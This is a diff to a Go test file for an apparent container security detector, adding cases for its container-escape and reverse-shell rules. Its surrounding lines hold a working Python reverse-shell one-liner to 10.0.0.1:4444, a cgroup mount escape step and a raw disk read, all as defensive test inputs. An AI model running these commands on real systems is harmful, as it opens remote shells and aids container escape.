@@ -210,6 +210,13 @@ func TestRules(t *testing.T) {
 		{"A1 mount -t cgroup", "ESC-007", func() []*event.Event {
 			return evs(execEv(proc(12, "/usr/bin/mount", "mount", "-t", "cgroup", "-o", "none,name=ebpfh", "cgroup", "/tmp/h/cg"), infer("a1")))
 		}, true, event.SevCritical},
+		{"runtime mounts proc for the container", "ESC-007", func() []*event.Event {
+			return evs(sysEv(proc(12, "/usr/bin/unshare"), infer("x"), event.Syscall{Name: "mount", Path: "proc", Path2: "/proc", Arg: "proc"}),
+				sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "mount", Path: "cgroup", Path2: "/sys/fs/cgroup", Arg: "cgroup2"}))
+		}, false, 0},
+		{"runtime binary mounts a cgroup elsewhere", "ESC-007", func() []*event.Event {
+			return evs(sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "mount", Path: "cgroup", Path2: "/tmp/cg", Arg: "cgroup"}))
+		}, true, 0},
 		{"block device open", "ESC-007", func() []*event.Event {
 			return evs(openEv(proc(12, "/usr/bin/dd"), infer("x"), "/dev/sda", "", rd, 3))
 		}, true, 0},
@@ -594,6 +601,19 @@ func TestRules(t *testing.T) {
 		{"python reverse shell", "C2-001", func() []*event.Event {
 			return evs(execEv(proc(163, "/usr/bin/python3", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"), side("x")))
 		}, true, event.SevHigh},
+		{"host shell after a connect", "C2-001", func() []*event.Event {
+			return evs(connEv(proc(170, "/usr/bin/python3").ns(hostNS), nil, "10.0.0.9", 443, event.ClassExternal),
+				execEv(proc(171, "/bin/bash", "bash", "-c", "make").ns(hostNS).anc(an(170, "/usr/bin/python3")), nil))
+		}, false, 0},
+		{"shell after a DNS lookup", "C2-001", func() []*event.Event {
+			k := connEv(proc(170, "/usr/bin/python3"), infer("x"), "10.255.255.53", 53, event.ClassExternal)
+			k.Net.Protocol = "udp"
+			return evs(k, execEv(proc(171, "/bin/sh", "sh", "-c", "true").anc(an(170, "/usr/bin/python3")), infer("x")))
+		}, false, 0},
+		{"shell of another container", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(171, "/bin/sh", "sh", "-c", "true").anc(an(170, "/usr/bin/python3")), infer("y")),
+				connEv(proc(170, "/usr/bin/python3"), infer("x"), "10.200.2.2", 443, event.ClassExternal))
+		}, false, 0},
 		{"shell long after a connect", "C2-001", func() []*event.Event {
 			c := infer("x")
 			k := connEv(proc(170, "/usr/bin/python3"), c, "10.200.1.1", 8080, event.ClassNode)
